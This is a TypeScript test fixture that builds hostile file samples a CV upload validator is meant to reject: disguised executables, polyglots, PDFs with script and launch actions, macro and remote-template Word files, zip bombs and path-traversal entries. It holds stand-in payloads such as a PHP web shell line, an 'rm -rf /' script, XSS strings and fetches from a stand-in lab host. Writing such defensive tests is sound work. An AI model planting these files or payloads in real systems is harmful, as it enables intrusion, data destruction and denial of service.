import { zipSync } from 'fflate';
import { doc, docx, packedPdf, pdf, relation, wordFields } from './documents.ts';

const text = (value: string) => new TextEncoder().encode(value);
const bytes = (...values: number[]) => new Uint8Array(values);
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const zeros = (length: number) => new Uint8Array(length);

const exe = join(
  bytes(0x4d, 0x5a, 0x90, 0),
  zeros(200),
  text('This program cannot be run in DOS mode'),
);
const elf = join(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1), zeros(200));
const png = join(bytes(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10), zeros(100));
const jpeg = join(bytes(0xff, 0xd8, 0xff, 0xe0), zeros(100));
const gzip = join(bytes(0x1f, 0x8b, 8), zeros(100));
const rar = join(text('Rar!'), bytes(0x1a, 7, 0), zeros(100));
const sevenZip = join(bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c), zeros(100));
const html = text('<!doctype html><script>alert(1)</script>');
const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const rtf = text('{\\rtf1\\ansi hello}');
const php = text('<?php system($_GET["c"]); ?>');
const eicar = text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
const bomb = zipSync({
  '[Content_Types].xml': text('<Types/>'),
  'word/document.xml': zeros(120 * 1024 * 1024),
});
const manyEntries = docx(
  Object.fromEntries(Array.from({ length: 2_500 }, (_, i) => [`word/media/${i}.png`, bytes(1)])),
);

/** A zip of 202 bytes whose ZIP64 directory states 2^32 - 1 entries. */
export const endlessZip = (() => {
  const zip = Buffer.alloc(202);
  zip.write('PK\u0003\u0004', 0);
  const directory = 104;
  zip.write('PK\u0006\u0006', directory);
  zip.writeUInt32LE(0xffffffff, directory + 32);
  const locator = 160;
  zip.write('PK\u0006\u0007', locator);
  zip.writeUInt32LE(directory, locator + 8);
  zip.write('PK\u0005\u0006', locator + 20);
  return new Uint8Array(zip);
})();

/** What a PDF may do besides being read, each as its catalog has it. */
const actions: [what: string, extra: string][] = [
  ['runs a script', '/OpenAction <</S /JavaScript /JS (app.alert(1))>>'],
  ['runs a script by name', '/Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (1)>>]>>>>'],
  ['starts a program', '/OpenAction <</S /Launch /F (cmd.exe)>>'],
  ['sends a form', '/AA <</WC <</S /SubmitForm /F (https://lab.example)>>>>'],
  ['opens another file', '/OpenAction <</S /GoToR /F (//lab.example/a.pdf) /D [0 /Fit]>>'],
  ['imports data', '/AA <</DS <</S /ImportData /F (a.fdf)>>>>'],
  ['is a form of another kind', '/AcroForm <</XFA [(template) <</a 1>>]>>'],
  ['has a file', '/Names <</EmbeddedFiles <</Names [(a) <</Type /Filespec /F (a.exe)>>]>>>>'],
];

/** Files that are no CV whatever they call themselves. Each is refused with the sentence on types. */
export const hostileFiles: [what: string, name: string, content: Uint8Array][] = [
  // Renamed: the content is something else.
  ['a Windows program as PDF', 'cv.pdf', exe],
  ['a Windows program as Word', 'cv.docx', exe],
  ['a Windows program as old Word', 'cv.doc', exe],
  ['a Linux program as PDF', 'cv.pdf', elf],
  ['a Linux program as Word', 'cv.docx', elf],
  ['a script as PDF', 'cv.pdf', text('#!/bin/sh\nrm -rf /\n')],
  ['PHP as PDF', 'cv.pdf', php],
  ['HTML as PDF', 'cv.pdf', html],
  ['HTML as old Word', 'cv.doc', html],
  ['SVG as PDF', 'cv.pdf', svg],
  ['a picture as PDF', 'cv.pdf', png],
  ['a photo as Word', 'cv.docx', jpeg],
  ['RTF as old Word', 'cv.doc', rtf],
  ['gzip as Word', 'cv.docx', gzip],
  ['RAR as Word', 'cv.docx', rar],
  ['7z as Word', 'cv.docx', sevenZip],
  ['plain text as PDF', 'cv.pdf', text('My CV')],
  ['plain text as old Word', 'cv.doc', text('My CV')],
  ['EICAR as PDF', 'cv.pdf', eicar],
  ['EICAR as old Word', 'cv.doc', eicar],
  ['a PDF as Word', 'cv.docx', pdf()],
  ['a PDF as old Word', 'cv.doc', pdf()],
  ['Word as PDF', 'cv.pdf', docx()],
  ['old Word as Word', 'cv.docx', doc()],
  ['Word as old Word', 'cv.doc', docx()],
  // Names that are not those of a CV.
  ['a program by its own name', 'cv.exe', exe],
  ['a PDF called exe', 'cv.exe', pdf()],
  ['a PDF called com', 'cv.com', pdf()],
  ['a PDF called HTML', 'cv.html', pdf()],
  ['a PDF called SVG', 'cv.svg', pdf()],
  ['a PDF called txt', 'cv.txt', pdf()],
  ['a PDF without an ending', 'cv', pdf()],
  ['a PDF with an ending of another script', 'cv.рdf', pdf()],
  ['a PDF whose ending has a space', 'cv.p df', pdf()],
  ['a double ending', 'cv.exe.pdf', pdf()],
  ['a double ending the other way', 'cv.pdf.exe', pdf()],
  ['a double ending with a script', 'cv.php.pdf', pdf()],
  ['a double ending with HTML', 'cv.html.pdf', pdf()],
  ['a null byte before the real ending', 'cv.exe\u0000.pdf', exe],
  ['a macro document', 'cv.docm', docx()],
  ['a template with macros', 'cv.dotm', docx()],
  ['a spreadsheet', 'cv.xlsx', docx()],
  ['a zip', 'cv.zip', docx()],
  ['RTF by its own name', 'cv.rtf', rtf],
  ['only an ending', '.pdf', pdf()],
  // Polyglots, and files that hide something.
  ['HTML in front of a PDF', 'cv.pdf', join(html, pdf())],
  ['a program in front of a PDF', 'cv.pdf', join(exe, pdf())],
  ['a zip in front of a PDF', 'cv.pdf', join(docx(), pdf())],
  ['an empty line in front of a PDF', 'cv.pdf', join(text('\n'), pdf())],
  ['a PDF in front of a zip', 'cv.pdf', join(pdf(), zeros(2_000), docx())],
  [
    'a PDF that hides how it runs JavaScript',
    'cv.pdf',
    pdf({ extra: '/OpenAction <</S /J#61vaScript /#4a#53 (app.alert(1))>>' }),
  ],
  [
    'a PDF that runs JavaScript',
    'cv.pdf',
    pdf({ extra: '/OpenAction <</S /JavaScript /JS (app.alert(1))>>' }),
  ],
  [
    'a PDF that starts a program',
    'cv.pdf',
    pdf({ extra: '/OpenAction <</S /Launch /F (cmd.exe)>>' }),
  ],
  ['a PDF with a file inside', 'cv.pdf', pdf({ extra: '/EmbeddedFile 9 0 R' })],
  ['a PDF with a film inside', 'cv.pdf', pdf({ extra: '/RichMedia 9 0 R' })],
  ...actions.flatMap(([what, extra]): [string, string, Uint8Array][] => [
    [`a PDF that ${what}`, 'cv.pdf', pdf({ extra })],
    [`a packed PDF that ${what}`, 'cv.pdf', packedPdf({ extra })],
    [`a PDF packed twice that ${what}`, 'cv.pdf', packedPdf({ extra, times: 2 })],
    [`a PDF packed four times that ${what}`, 'cv.pdf', packedPdf({ extra, times: 4 })],
  ]),
  [
    'a PDF that runs JavaScript after a remark',
    'cv.pdf',
    pdf({ extra: '/OpenAction <</S % (\n/JavaScript % )\n/JS (app.alert(1))>>' }),
  ],
  ['a program in front of Word', 'cv.docx', join(exe, docx())],
  [
    'Word with macros that say so nowhere in their name',
    'cv.docx',
    docx({
      '[Content_Types].xml': text(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/notes.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
      ),
      'word/notes.dat': bytes(1),
    }),
  ],
  [
    'Word with macros by another way',
    'cv.docx',
    docx({ 'word/_rels/document.xml.rels': relation('vbaProject', 'notes.dat', 'Internal') }),
  ],
  [
    'Word with a page inside',
    'cv.docx',
    docx({
      'word/chunk.mht': text('MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>'),
      'word/_rels/document.xml.rels': relation('aFChunk', 'chunk.mht', 'Internal'),
    }),
  ],
  ...(
    [
      ['a template', 'attachedTemplate', 'https://lab.example/a.dotm'],
      ['a template of another machine', 'attachedTemplate', 'file://lab.example/share/a.dotm'],
      ['an object', 'oleObject', 'https://lab.example/a'],
      ['a frame', 'frame', 'https://lab.example/a.html'],
      ['a document', 'subDocument', 'https://lab.example/a.docx'],
      ['a picture', 'image', 'https://lab.example/a.png'],
    ] as const
  ).map(([what, type, target]): [string, string, Uint8Array] => [
    `Word that fetches ${what}`,
    'cv.docx',
    docx({ 'word/_rels/settings.xml.rels': relation(type, target) }),
  ]),
  [
    'Word that hides that it fetches something',
    'cv.docx',
    docx({
      'word/_rels/settings.xml.rels': relation('frame', 'https://lab.example', 'Ext&#x65;rnal'),
    }),
  ],
  [
    'Word with a field that starts a program',
    'cv.docx',
    docx({ 'word/document.xml': wordFields('DD', 'EAUTO', ' c:\\cmd.exe') }),
  ],
  [
    'Word with a field that spells it in numbers',
    'cv.docx',
    docx({ 'word/header1.xml': wordFields(' QUOTE 68 ', '68 69 65') }),
  ],
  ['Word with two parts of one name', 'cv.docx', docx({ 'WORD/document.xml': bytes(1) })],
  ['Word with macros', 'cv.docx', docx({ 'word/vbaProject.bin': bytes(1) })],
  ['Word with macros elsewhere', 'cv.docx', docx({ 'customXml/VBAPROJECT.BIN': bytes(1) })],
  ['Word with ActiveX', 'cv.docx', docx({ 'word/activeX/activeX1.xml': bytes(1) })],
  ['Word with a program inside', 'cv.docx', docx({ 'word/media/setup.exe': exe })],
  ['Word with a script inside', 'cv.docx', docx({ 'word/run.vbs': bytes(1) })],
  ['Word with an embedded object', 'cv.docx', docx({ 'word/embeddings/oleObject1.bin': bytes(1) })],
  ['Word that climbs out of its folder', 'cv.docx', docx({ '../etc/passwd': bytes(1) })],
  ['Word from the root', 'cv.docx', docx({ '/etc/passwd': bytes(1) })],
  ['Word without its list of types', 'cv.docx', docx({}, { without: ['[Content_Types].xml'] })],
  ['Word without its document', 'cv.docx', docx({}, { without: ['word/document.xml'] })],
  ['a zip that is no Word', 'cv.docx', zipSync({ 'a.txt': bytes(1) })],
  ['a zip bomb', 'cv.docx', bomb],
  ['a zip of very many entries', 'cv.docx', manyEntries],
  ['a zip that states billions of entries', 'cv.docx', endlessZip],
  ['old Word with macros', 'cv.doc', doc(['Root Entry', 'WordDocument', 'Macros', '_VBA_PROJECT'])],
  ['another compound file as Word', 'cv.doc', doc(['Root Entry', 'Workbook'])],
  // Empty and cut off.
  ['an empty PDF', 'cv.pdf', zeros(0)],
  ['an empty Word', 'cv.docx', zeros(0)],
  ['a PDF that is only a beginning', 'cv.pdf', text('%PDF-1.7')],
  ['a PDF cut in the middle', 'cv.pdf', pdf({ size: 5_000 }).subarray(0, 2_500)],
  ['Word cut in the middle', 'cv.docx', docx().subarray(0, 200)],
  ['a zip header and no more', 'cv.docx', bytes(0x50, 0x4b, 3, 4)],
  ['an old Word header and no more', 'cv.doc', doc().subarray(0, 8)],
  ['zeros', 'cv.pdf', zeros(10_000)],
];
